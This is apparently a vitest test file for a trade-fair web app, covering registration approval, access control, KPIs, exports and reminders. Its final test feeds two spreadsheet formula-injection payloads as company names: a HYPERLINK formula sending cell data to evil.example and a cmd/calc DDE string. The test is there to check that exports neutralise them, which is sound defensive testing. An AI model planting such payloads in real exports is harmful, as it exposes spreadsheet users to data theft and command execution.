import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import ExcelJS from 'exceljs'
import { createBuyer, createExporter, createProduct, createUser, sessionUserOf } from '../../../tests/fixtures'
import { caught, formRequest, getRequest, mintCsrf } from '../../../tests/http'
import { disconnectPrisma, getPrisma } from '~/domain/db.server'
import { createI18n } from '~/lib/i18n'
import { currencyFractionDigits } from '~/lib/money'
import { loader as dashboardLoader } from '~/routes/organizer/fairs/dashboard'
import { loader as csvLoader } from '~/routes/organizer/fairs/export-csv'
import { loader as xlsxLoader } from '~/routes/organizer/fairs/export-xlsx'
import { action as manageAction, loader as manageLoader } from '~/routes/organizer/fairs/fair'
import { action as registerAction } from '~/routes/fairs/register'
import { loader as publicFairLoader } from '~/routes/fairs/fair'
import { decideRegistration, registerForFair } from './fairs.server'
import { getFairKpis, listConsultationRows } from './kpis.server'
import { deliverReminder, reminderJobsToReconcile } from '~/domain/engagement/reminders.server'

const MINUTE = 60_000

beforeAll(async () => {
  await getPrisma()
})
afterAll(async () => {
  await disconnectPrisma()
})

async function createFair(organizerId: string, overrides: { status?: 'DRAFT' | 'OPEN' | 'LIVE'; slug?: string } = {}) {
  const prisma = await getPrisma()
  return prisma.tradeFair.create({
    data: {
      slug: overrides.slug ?? `fair-${Math.random().toString(36).slice(2, 10)}`,
      name: 'Test Expo',
      startsAt: new Date('2026-07-01T00:00:00Z'),
      endsAt: new Date('2026-07-05T09:00:00Z'),
      timeZone: 'Asia/Seoul',
      status: overrides.status ?? 'OPEN',
      organizerId,
    },
  })
}

async function post(path: string, cookie: string, fields: Record<string, string>, handler: (args: never) => Promise<unknown>, params: Record<string, string>) {
  const csrf = await mintCsrf()
  return handler({ request: formRequest(path, { csrf: csrf.token, ...fields }, { cookies: [csrf.cookie, cookie] }), params } as never)
}

describe('registration approval', () => {
  it('exporter and buyer register (PENDING), the organizer approves/rejects, registrants are notified, the exporter gets a booth', async () => {
    const prisma = await getPrisma()
    const organizer = await createUser('ORGANIZER')
    const fair = await createFair(organizer.user.id)
    const exporter = await createExporter()
    const buyer = await createBuyer({ country: 'DE' })
    const register = (cookie: string) => post(`/fairs/${fair.slug}/register`, cookie, { intent: 'register' }, registerAction, { slug: fair.slug })
    expect(((await register(exporter.cookie)) as Response).status).toBe(302)
    expect(((await register(buyer.cookie)) as Response).status).toBe(302)
    const regs = await prisma.fairRegistration.findMany({ where: { fairId: fair.id }, orderBy: { kind: 'asc' } })
    expect(regs.map((r) => [r.kind, r.status, r.companyId])).toEqual([
      ['EXHIBITOR', 'PENDING', exporter.company.id],
      ['BUYER', 'PENDING', null],
    ])
    const decide = (intent: string, registrationId: string) =>
      post(`/organizer/fairs/${fair.id}`, organizer.cookie, { intent, registrationId }, manageAction, { fairId: fair.id })
    expect(((await decide('approve', regs[0]!.id)) as Response).status).toBe(302)
    expect(((await decide('reject', regs[1]!.id)) as Response).status).toBe(302)
    const after = await prisma.fairRegistration.findMany({ where: { fairId: fair.id }, orderBy: { kind: 'asc' } })
    expect(after.map((r) => r.status)).toEqual(['APPROVED', 'REJECTED'])
    expect(after.every((r) => r.decidedAt)).toBe(true)
    const booth = await prisma.booth.findUniqueOrThrow({ where: { fairId_companyId: { fairId: fair.id, companyId: exporter.company.id } } })
    expect(booth).toMatchObject({ code: 'B-001' })
    expect(booth.approvedAt).not.toBeNull()
    const notes = await prisma.notification.findMany({ where: { kind: 'registration.decided', userId: { in: [exporter.user.id, buyer.user.id] } } })
    expect(notes.map((n) => [n.userId, (n.data as { status: string }).status]).sort()).toEqual(
      [
        [exporter.user.id, 'APPROVED'],
        [buyer.user.id, 'REJECTED'],
      ].sort(),
    )
    // The status reads as a word in the recipient's language (it once stayed a raw key, "status.approved").
    const rejected = notes.find((n) => n.userId === buyer.user.id)!
    expect(createI18n('en').t('notifications.registration.decided.body', rejected.data as Record<string, string>)).toBe(
      `Your registration for ${fair.name} is now “Rejected”.`,
    )
    expect(createI18n('ko').t('notifications.registration.decided.title', rejected.data as Record<string, string>)).toMatch(/거절|반려/)
    // Deciding twice is refused (409), and nothing changes.
    const again = (await decide('approve', regs[1]!.id)) as { init: { status: number } }
    expect(again.init.status).toBe(409)
    expect((await prisma.fairRegistration.findUniqueOrThrow({ where: { id: regs[1]!.id } })).status).toBe('REJECTED')
  })

  it('gives each exhibitor its own booth code when approvals run at once', async () => {
    const prisma = await getPrisma()
    const organizer = await createUser('ORGANIZER')
    const fair = await createFair(organizer.user.id)
    const exporters = await Promise.all([createExporter(), createExporter(), createExporter()])
    const registrations = await Promise.all(
      exporters.map(({ user, company }) =>
        prisma.fairRegistration.create({ data: { fairId: fair.id, userId: user.id, companyId: company.id, kind: 'EXHIBITOR', status: 'PENDING' } }),
      ),
    )
    await Promise.all(registrations.map((registration) => decideRegistration(fair.id, registration.id, 'APPROVED')))
    const booths = await prisma.booth.findMany({ where: { fairId: fair.id }, select: { code: true }, orderBy: { code: 'asc' } })
    expect(booths.map((booth) => booth.code)).toEqual(['B-001', 'B-002', 'B-003'])
  })

  it('registers a company once when two colleagues register at the same time, and a double submit once', async () => {
    const prisma = await getPrisma()
    const organizer = await createUser('ORGANIZER')
    const fair = await createFair(organizer.user.id)
    const owner = await createExporter()
    const colleague = await createUser('EXPORTER')
    await prisma.exporterMember.create({ data: { userId: colleague.user.id, companyId: owner.company.id, role: 'MEMBER' } })
    const [ownerSession, colleagueSession] = await Promise.all([sessionUserOf(owner.cookie), sessionUserOf(colleague.cookie)])
    const ids = await Promise.all([registerForFair(ownerSession, fair.id), registerForFair(colleagueSession, fair.id), registerForFair(ownerSession, fair.id)])
    expect(new Set(ids).size).toBe(1)
    expect(await prisma.fairRegistration.count({ where: { fairId: fair.id, companyId: owner.company.id } })).toBe(1)

    const buyer = await sessionUserOf((await createBuyer()).cookie)
    const twice = await Promise.all([registerForFair(buyer, fair.id), registerForFair(buyer, fair.id)])
    expect(twice[0]).toBe(twice[1])
    expect(await prisma.fairRegistration.count({ where: { fairId: fair.id, userId: buyer.id } })).toBe(1)
  })

  it('refuses registration for a DRAFT fair (404) and a CLOSED one', async () => {
    const organizer = await createUser('ORGANIZER')
    const draft = await createFair(organizer.user.id, { status: 'DRAFT' })
    const buyer = await createBuyer()
    const result = await caught(() => post(`/fairs/${draft.slug}/register`, buyer.cookie, { intent: 'register' }, registerAction, { slug: draft.slug }))
    expect(result.status).toBe(404)
    expect((await caught(() => publicFairLoader({ request: getRequest(`/fairs/${draft.slug}`), params: { slug: draft.slug } } as never))).status).toBe(404)
  })
})

describe('access control', () => {
  it('only the fair organizer or an admin manages a fair, sees its dashboard and exports', async () => {
    const owner = await createUser('ORGANIZER')
    const other = await createUser('ORGANIZER')
    const admin = await createUser('ADMIN')
    const exporter = await createExporter()
    const buyer = await createBuyer()
    const fair = await createFair(owner.user.id)
    const params = { fairId: fair.id }
    const call = (loader: (args: never) => unknown, path: string, cookie: string) => () => loader({ request: getRequest(path, [cookie]), params } as never)
    for (const [loader, path] of [
      [manageLoader, `/organizer/fairs/${fair.id}`],
      [dashboardLoader, `/organizer/fairs/${fair.id}/dashboard`],
      [csvLoader, `/organizer/fairs/${fair.id}/export.csv`],
      [xlsxLoader, `/organizer/fairs/${fair.id}/export.xlsx`],
    ] as const) {
      expect((await caught(call(loader as never, path, other.cookie))).status).toBe(404)
      expect((await caught(call(loader as never, path, exporter.cookie))).status).toBe(403)
      expect((await caught(call(loader as never, path, buyer.cookie))).status).toBe(403)
      expect((await caught(call(loader as never, path, ''))).status).toBe(302) // to /login
      await expect(Promise.resolve(call(loader as never, path, owner.cookie)())).resolves.toBeTruthy()
      await expect(Promise.resolve(call(loader as never, path, admin.cookie)())).resolves.toBeTruthy()
    }
    // Another organizer cannot act on it either.
    const registration = await (await getPrisma()).fairRegistration.create({ data: { fairId: fair.id, userId: buyer.user.id, kind: 'BUYER' } })
    const refused = await caught(() =>
      post(`/organizer/fairs/${fair.id}`, other.cookie, { intent: 'approve', registrationId: registration.id }, manageAction, params),
    )
    expect(refused.status).toBe(404)
    const csv = await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [owner.cookie]), params } as never)
    expect(csv.headers.get('Content-Type')).toContain('text/csv')
  })
})

describe('fair KPIs', () => {
  it('match figures computed independently from the rows, with dated currency conversion', async () => {
    const prisma = await getPrisma()
    const organizer = await createUser('ORGANIZER')
    const fair = await createFair(organizer.user.id)
    const otherFair = await createFair(organizer.user.id)
    const a = await createExporter({ companyName: 'Alpha Foods' })
    const b = await createExporter({ companyName: 'Beta Beauty' })
    const pa = await createProduct(a.company.id, { hsCode: '190230' })
    const pb = await createProduct(b.company.id, { hsCode: '330499', koName: '베타 세럼' })
    const de = await createBuyer({ country: 'DE' })
    const us = await createBuyer({ country: 'US' })
    const jp = await createBuyer({ country: 'JP' })
    await prisma.exchangeRate.createMany({
      data: [
        { currency: 'KRW', usdPerUnit: '0.00072', validFrom: new Date('2026-01-01T00:00:00Z') },
        { currency: 'KRW', usdPerUnit: '0.00075', validFrom: new Date('2026-06-01T00:00:00Z') },
        { currency: 'EUR', usdPerUnit: '1.085', validFrom: new Date('2026-01-01T00:00:00Z') },
      ],
      // Another suite of the same run (the demo seed) may have stored rates for these days already.
      skipDuplicates: true,
    })
    await prisma.fairRegistration.createMany({
      data: [
        { fairId: fair.id, userId: de.user.id, kind: 'BUYER', status: 'APPROVED' },
        { fairId: fair.id, userId: us.user.id, kind: 'BUYER', status: 'APPROVED' },
        { fairId: fair.id, userId: jp.user.id, kind: 'BUYER', status: 'PENDING' },
        { fairId: fair.id, userId: a.user.id, kind: 'EXHIBITOR', status: 'APPROVED', companyId: a.company.id },
      ],
    })
    const base = { quantity: 100, destinationCountry: 'DE', message: 'x' }
    const inquiry = (companyId: string, buyerId: string, productId: string, extra: Record<string, unknown>) =>
      prisma.inquiry.create({ data: { ...base, companyId, buyerId, productId, fairId: fair.id, ...extra } })
    await inquiry(a.company.id, de.profile.id, pa.id, { status: 'CONSULTATION', consultationValueUsdCents: 100_000n })
    await inquiry(a.company.id, us.profile.id, pa.id, {
      status: 'CONTRACT_SIGNED',
      contractSignedAt: new Date('2026-07-02T00:00:00Z'),
      consultationValueUsdCents: 200_000n,
      contractValueUsdCents: 5_000_000n,
    })
    const krwLate = await inquiry(b.company.id, de.profile.id, pb.id, { status: 'CONTRACT_SIGNED', contractSignedAt: new Date('2026-07-10T03:00:00Z') })
    const krwEarly = await inquiry(b.company.id, jp.profile.id, pb.id, { status: 'CONTRACT_SIGNED', contractSignedAt: new Date('2026-03-01T00:00:00Z') })
    const eur = await inquiry(b.company.id, us.profile.id, pb.id, {
      status: 'CONTRACT_SIGNED',
      contractSignedAt: new Date('2026-07-03T00:00:00Z'),
      consultationValueUsdCents: 33_300n,
    })
    await inquiry(a.company.id, jp.profile.id, pa.id, { status: 'LOST', consultationValueUsdCents: 30_000n, contractValueUsdCents: 999_900n })
    const noRate = await inquiry(a.company.id, de.profile.id, pa.id, { status: 'CONTRACT_SIGNED', contractSignedAt: new Date('2026-07-04T00:00:00Z') })
    // Not this fair's.
    await prisma.inquiry.create({
      data: {
        ...base,
        companyId: a.company.id,
        buyerId: de.profile.id,
        productId: pa.id,
        fairId: otherFair.id,
        status: 'CONTRACT_SIGNED',
        contractValueUsdCents: 7_777_700n,
      },
    })
    await prisma.inquiry.create({
      data: { ...base, companyId: a.company.id, buyerId: de.profile.id, productId: pa.id, status: 'SHIPPED', contractValueUsdCents: 1_000_000n },
    })
    const quote = (inquiryId: string, unitPriceMinor: number, currency: string, quantity: number, createdAt: Date) =>
      prisma.quote.create({ data: { inquiryId, unitPriceMinor, currency, quantity, validUntil: new Date('2027-01-01'), createdById: b.user.id, createdAt } })
    await quote(krwLate.id, 99_999, 'USD', 1, new Date('2026-07-01T00:00:00Z')) // older quote: ignored
    await quote(krwLate.id, 13_000, 'KRW', 500, new Date('2026-07-05T00:00:00Z'))
    await quote(krwEarly.id, 10_000, 'KRW', 100, new Date('2026-02-20T00:00:00Z'))
    await quote(eur.id, 1_250, 'EUR', 2_000, new Date('2026-07-02T00:00:00Z'))
    await quote(noRate.id, 50_000, 'VND', 10, new Date('2026-07-02T00:00:00Z'))
    const meeting = (companyId: string, buyerId: string, status: 'HELD' | 'REQUESTED' | 'CANCELLED', extra: Record<string, unknown> = {}) =>
      prisma.meeting.create({
        data: {
          companyId,
          buyerId,
          fairId: fair.id,
          status,
          startsAt: new Date('2026-07-02T01:00:00Z'),
          endsAt: new Date('2026-07-02T01:30:00Z'),
          requestedById: organizer.user.id,
          ...extra,
        },
      })
    await meeting(a.company.id, jp.profile.id, 'HELD', { consultationValueUsdCents: 500_000n, contractValueUsdCents: 1_200_000n })
    await meeting(b.company.id, us.profile.id, 'REQUESTED', { consultationValueUsdCents: 77_700n })
    await meeting(a.company.id, de.profile.id, 'HELD')
    await meeting(b.company.id, de.profile.id, 'CANCELLED')
    const host = a.user.id
    const session = (title: string, approved: boolean, stats: { u: number; p: number; w: number }) =>
      prisma.liveSession.create({
        data: {
          title,
          hostId: host,
          companyId: a.company.id,
          fairId: fair.id,
          approvedAt: approved ? new Date() : null,
          scheduledStartAt: new Date('2026-07-02T00:00:00Z'),
          scheduledEndAt: new Date('2026-07-02T01:00:00Z'),
          uniqueViewers: stats.u,
          peakViewers: stats.p,
          watchSeconds: BigInt(stats.w),
          status: 'ENDED',
        },
      })
    const s1 = await session('Noodles live', true, { u: 120, p: 45, w: 36_000 })
    const s2 = await session('Soju live', true, { u: 80, p: 60, w: 18_000 })
    await session('Not approved', false, { u: 999, p: 999, w: 999 })
    await prisma.chatMessage.createMany({
      data: [
        { sessionId: s1.id, body: 'hi' },
        { sessionId: s1.id, body: 'price?' },
        { sessionId: s1.id, body: 'spam', removedAt: new Date() },
        { sessionId: s2.id, body: 'hello' },
      ],
    })

    // ── Independent computation from the rows (BigInt, exact) ──
    const rates = await prisma.exchangeRate.findMany()
    const rateAt = (currency: string, at: Date) =>
      rates
        .filter((r) => r.currency === currency && r.validFrom <= at)
        .sort((x, y) => y.validFrom.getTime() - x.validFrom.getTime())[0]
        ?.usdPerUnit.toString()
    /** minor units × rate (decimal string) → USD cents, rounded half up. */
    const convert = (minor: bigint, currency: string, at: Date): bigint | null => {
      if (currency === 'USD') return minor
      const rate = rateAt(currency, at)
      if (!rate) return null
      const [int, frac = ''] = rate.split('.')
      const scale = 10n ** BigInt(frac.length)
      const rateScaled = BigInt(int!) * scale + BigInt(frac || '0')
      const numerator = minor * rateScaled * 100n
      const denominator = scale * 10n ** BigInt(currencyFractionDigits(currency))
      return (numerator * 2n + denominator) / (2n * denominator)
    }
    const inquiries = await prisma.inquiry.findMany({
      where: { fairId: fair.id },
      include: { quotes: { orderBy: { createdAt: 'desc' } }, buyer: true, product: true },
    })
    const meetings = await prisma.meeting.findMany({ where: { fairId: fair.id }, include: { buyer: true } })
    const held = meetings.filter((m) => m.status === 'HELD')
    const contractOf = (i: (typeof inquiries)[number]): bigint => {
      if (i.status !== 'CONTRACT_SIGNED' && i.status !== 'SHIPPED') return 0n
      if (i.contractValueUsdCents !== null) return i.contractValueUsdCents
      const q = i.quotes[0]
      return q ? (convert(BigInt(q.unitPriceMinor) * BigInt(q.quantity), q.currency, i.contractSignedAt!) ?? 0n) : 0n
    }
    const consultations = [
      ...inquiries.map((i) => ({
        company: i.companyId,
        country: i.buyer.country,
        hs: i.product!.hsCode.slice(0, 2),
        consultation: i.consultationValueUsdCents ?? 0n,
        contract: contractOf(i),
      })),
      ...held.map((m) => ({
        company: m.companyId,
        country: m.buyer.country,
        hs: '',
        consultation: m.consultationValueUsdCents ?? 0n,
        contract: m.contractValueUsdCents ?? 0n,
      })),
    ]
    const sum = (rows: typeof consultations, key: 'consultation' | 'contract') => Number(rows.reduce((t, r) => t + r[key], 0n))
    // Hand-checked anchors for the conversion: 13,000 KRW × 500 at 0.00075 = $4,875.00; 10,000 KRW × 100 at 0.00072 = $720.00; €12.50 × 2,000 at 1.085 = $27,125.00.
    expect(contractOf(inquiries.find((i) => i.id === krwLate.id)!)).toBe(487_500n)
    expect(contractOf(inquiries.find((i) => i.id === krwEarly.id)!)).toBe(72_000n)
    expect(contractOf(inquiries.find((i) => i.id === eur.id)!)).toBe(2_712_500n)

    const kpis = await getFairKpis(fair.id, { locale: 'en' })
    expect(kpis.consultations.totals).toEqual({
      consultations: inquiries.length + held.length,
      inquiries: inquiries.length,
      heldMeetings: held.length,
      consultationUsdCents: sum(consultations, 'consultation'),
      contractUsdCents: sum(consultations, 'contract'),
      unconverted: 1,
    })
    for (const [dimension, key] of [
      ['byExporter', 'company'],
      ['byBuyerCountry', 'country'],
      ['byHsChapter', 'hs'],
    ] as const) {
      const expected = new Map<string, { n: number; consultation: number; contract: number }>()
      for (const row of consultations) {
        const entry = expected.get(row[key]) ?? { n: 0, consultation: 0, contract: 0 }
        expected.set(row[key], { n: entry.n + 1, consultation: entry.consultation + Number(row.consultation), contract: entry.contract + Number(row.contract) })
      }
      const actual = new Map(
        kpis.consultations[dimension].map((r) => [r.key, { n: r.consultations, consultation: r.consultationUsdCents, contract: r.contractUsdCents }]),
      )
      expect(actual, dimension).toEqual(expected)
    }
    expect(kpis.registrations).toEqual({
      buyers: expect.arrayContaining([
        { country: 'DE', approved: 1, pending: 0 },
        { country: 'US', approved: 1, pending: 0 },
        { country: 'JP', approved: 0, pending: 1 },
      ]),
      exporters: [{ country: 'KR', approved: 1, pending: 0 }],
      buyersApproved: 2,
      exportersApproved: 1,
    })
    expect(kpis.sessions.totals).toEqual({
      sessions: 2,
      uniqueViewers: 200,
      peakViewers: 60,
      watchSeconds: 54_000,
      chatMessages: 3,
      replays: 0,
      replayUniqueViewers: 0,
      replayWatchSeconds: 0,
    })
    expect(kpis.sessions.top.map((s) => [s.title, s.chatMessages])).toEqual([
      ['Noodles live', 2],
      ['Soju live', 1],
    ])
    const byStatus = (list: Array<{ status: string }>) =>
      Object.fromEntries([...new Set(list.map((r) => r.status))].map((s) => [s, list.filter((r) => r.status === s).length]))
    expect(Object.fromEntries(kpis.pipeline.inquiriesByStatus.map((r) => [r.status, r.count]))).toEqual(byStatus(inquiries))
    expect(Object.fromEntries(kpis.pipeline.meetingsByStatus.map((r) => [r.status, r.count]))).toEqual(byStatus(meetings))
    expect(kpis.funnel).toEqual([
      { stage: 'viewers', count: 200 },
      { stage: 'inquiries', count: inquiries.length },
      { stage: 'meetings', count: meetings.length },
      {
        stage: 'won',
        count:
          inquiries.filter((i) => i.status === 'CONTRACT_SIGNED' || i.status === 'SHIPPED').length +
          meetings.filter((m) => (m.contractValueUsdCents ?? 0n) > 0n).length,
      },
    ])

    // The export has one row per consultation with the same totals.
    const rows = await listConsultationRows(fair.id, { locale: 'en', timeZone: 'Asia/Seoul' })
    expect(rows).toHaveLength(inquiries.length + held.length)
    expect(rows.reduce((t, r) => t + r.contractUsdCents, 0)).toBe(sum(consultations, 'contract'))
    const csv = await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)
    const lines = (await csv.text())
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n')
    expect(lines[0]).toBe(
      'Date,Type,Exporter,Buyer,Buyer country,Product,HS code,Consultation value (USD),Contract value (USD),Status,Value being pursued (USD),Shipped value (USD)',
    )
    expect(lines).toHaveLength(rows.length + 1)
    expect(lines.some((l) => l.includes('Beta Beauty') && l.includes(',4875.00,Contract signed,0.00,0.00'))).toBe(true)
    const xlsx = await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)
    const bytes = new Uint8Array(await xlsx.arrayBuffer())
    expect([bytes[0], bytes[1]]).toEqual([0x50, 0x4b]) // a zip (OOXML) container

    // Downloaded by a Korean reader: headings, type, status, country and product names in Korean; the date
    // stays ISO in its own column and the amounts are numbers.
    await prisma.user.update({ where: { id: organizer.user.id }, data: { locale: 'ko' } })
    const download = async (path: string) => await csvLoader({ request: getRequest(path, [organizer.cookie]), params: { fairId: fair.id } } as never)
    const koLines = (await (await download(`/organizer/fairs/${fair.id}/export.csv`)).text())
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n')
    expect(koLines[0]).toBe('날짜,유형,수출기업,바이어,바이어 국가,제품,HS 코드,상담액(USD),계약액(USD),상태,추진 중 금액 (USD),선적액 (USD)')
    const koWon = koLines.find((l) => l.includes(',4875.00,'))
    expect(koWon).toMatch(/^\d{4}-\d{2}-\d{2},문의,Beta Beauty,[^,]*,(독일|미국|일본),베타 세럼,330499,[\d.]+,4875\.00,계약 체결,0\.00,0\.00$/)
    const koXlsx = await xlsxLoader({
      request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]),
      params: { fairId: fair.id },
    } as never)
    const koBook = new ExcelJS.Workbook()
    await koBook.xlsx.load(await koXlsx.arrayBuffer())
    expect(koBook.worksheets.map((sheet) => sheet.name)).toEqual(['상담', '박람회', '수출 준비 격차', '참석'])
    const header = koBook.worksheets[0]!.getRow(1).values as unknown[]
    expect(header.slice(1)).toEqual([
      '날짜',
      '유형',
      '수출기업',
      '바이어',
      '바이어 국가',
      '제품',
      'HS 코드',
      '상담액(USD)',
      '계약액(USD)',
      '상태',
      '추진 중 금액 (USD)',
      '선적액 (USD)',
    ])
    const koRow = koBook.worksheets[0]!.getRows(2, rows.length)!.find((row) => row.getCell(9).value === 4875)
    expect([koRow?.getCell(2).value, koRow?.getCell(10).value]).toEqual(['문의', '계약 체결'])
    // A Russian reader gets a decimal comma (the cell is quoted, since it holds the separator).
    await prisma.user.update({ where: { id: organizer.user.id }, data: { locale: 'ru' } })
    expect(await (await download(`/organizer/fairs/${fair.id}/export.csv`)).text()).toContain(',"4875,00",')
  })
})

describe('fair showcase reminders (one mechanism: the engagement reminder job)', () => {
  it('reminds approved buyers once, 10 minutes before approved showcases start', async () => {
    const prisma = await getPrisma()
    const organizer = await createUser('ORGANIZER')
    const fair = await createFair(organizer.user.id, { status: 'LIVE' })
    const exporter = await createExporter()
    const approvedBuyer = await createBuyer()
    const pendingBuyer = await createBuyer()
    await prisma.user.update({ where: { id: approvedBuyer.user.id }, data: { timeZone: 'America/New_York' } })
    await prisma.fairRegistration.createMany({
      data: [
        { fairId: fair.id, userId: approvedBuyer.user.id, kind: 'BUYER', status: 'APPROVED' },
        { fairId: fair.id, userId: pendingBuyer.user.id, kind: 'BUYER', status: 'PENDING' },
      ],
    })
    const now = new Date('2026-07-02T00:50:00Z')
    const session = (title: string, startsInMinutes: number, approved = true) =>
      prisma.liveSession.create({
        data: {
          title,
          hostId: exporter.user.id,
          companyId: exporter.company.id,
          fairId: fair.id,
          approvedAt: approved ? now : null,
          scheduledStartAt: new Date(now.getTime() + startsInMinutes * MINUTE),
          scheduledEndAt: new Date(now.getTime() + (startsInMinutes + 30) * MINUTE),
        },
      })
    const soon = await session('Soon', 10)
    const later = await session('Later', 20)
    const unapproved = await session('Unapproved', 5, false)
    const started = await session('Already started', -1)
    const ours = new Set([soon.id, later.id, unapproved.id, started.id])

    // The jobs a boot derives: approved showcases still to come, each with its 10-minute reminder.
    const jobs = (await reminderJobsToReconcile(now)).filter((job) => ours.has(job.data.sessionId))
    expect(jobs.map((job) => [job.data.sessionId, job.data.kind, job.runAt.toISOString()]).sort()).toEqual(
      [
        [soon.id, 'starts-10m', '2026-07-02T00:50:00.000Z'],
        [later.id, 'starts-10m', '2026-07-02T01:00:00.000Z'],
      ].sort(),
    )
    const due = jobs.filter((job) => job.runAt <= now)
    expect(due).toHaveLength(1)
    expect(await deliverReminder(due[0]!.data, now, { appUrl: 'https://tradecast.test' })).toEqual({ sent: 1 })
    const notes = await prisma.notification.findMany({ where: { kind: 'showcase.reminder10m', userId: { in: [approvedBuyer.user.id, pendingBuyer.user.id] } } })
    expect(notes).toHaveLength(1)
    expect(notes[0]).toMatchObject({ userId: approvedBuyer.user.id, link: `/live/${soon.id}` })
    // In the buyer's zone (New York, EDT in July): 01:00 UTC is 9:00 PM the evening before.
    expect(notes[0]!.data).toMatchObject({ sessionId: soon.id, title: 'Soon', when: expect.stringContaining('9:00') })
    expect((notes[0]!.data as { when: string }).when).toMatch(/EDT/)

    // Exactly once: the job again, and twice at once (a retry, two processes), add nothing.
    expect(await deliverReminder(due[0]!.data, new Date(now.getTime() + MINUTE))).toEqual({ sent: 0 })
    await Promise.all([
      deliverReminder(due[0]!.data, new Date(now.getTime() + 2 * MINUTE)),
      deliverReminder(due[0]!.data, new Date(now.getTime() + 2 * MINUTE)),
    ])
    expect(await prisma.notification.count({ where: { kind: 'showcase.reminder10m', userId: approvedBuyer.user.id } })).toBe(1)
    // The later showcase's job, at its instant, gets its own single reminder.
    const laterJob = jobs.find((job) => job.data.sessionId === later.id)!
    expect(await deliverReminder(laterJob.data, laterJob.runAt)).toEqual({ sent: 1 })
    expect(await deliverReminder(laterJob.data, new Date(laterJob.runAt.getTime() + MINUTE))).toEqual({ sent: 0 })
  })
})

describe('export files and formula injection', () => {
  it('CSV cells that would start a formula are prefixed with an apostrophe; XLSX keeps them as text cells', async () => {
    const prisma = await getPrisma()
    const organizer = await createUser('ORGANIZER')
    const fair = await createFair(organizer.user.id, { status: 'LIVE' })
    const hostileExporter = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'
    const hostileBuyer = '＠SUM(1+1)*cmd|" /C calc"!A0'
    const exporter = await createExporter({ companyName: hostileExporter })
    const buyer = await createBuyer({ companyName: hostileBuyer })
    await prisma.meeting.create({
      data: {
        buyerId: buyer.profile.id,
        companyId: exporter.company.id,
        fairId: fair.id,
        status: 'HELD',
        startsAt: new Date('2026-07-02T01:00:00Z'),
        endsAt: new Date('2026-07-02T01:30:00Z'),
        requestedById: buyer.user.id,
        consultationValueUsdCents: 1000n,
      },
    })
    const csv = await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)
    const line = (await csv.text()).trim().split('\n')[1]!
    // Each hostile name is one quoted cell starting with an apostrophe (inner quotes doubled).
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Invoice"")",`)
    expect(line).toContain(`,"'＠SUM(1+1)*cmd|"" /C calc""!A0",`)
    expect(line).not.toMatch(/,=|,"=|,＠|,"＠/)

    const xlsx = await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await xlsx.arrayBuffer())
    const row = workbook.getWorksheet('Consultations')!.getRow(2)
    // Typed string cells: Excel shows the text and never evaluates it (no formula cell is written).
    for (const [column, name] of [
      [3, hostileExporter],
      [4, hostileBuyer],
    ] as const) {
      const cell = row.getCell(column)
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.value).toBe(name)
      expect(cell.formula).toBeUndefined()
    }
  })
})
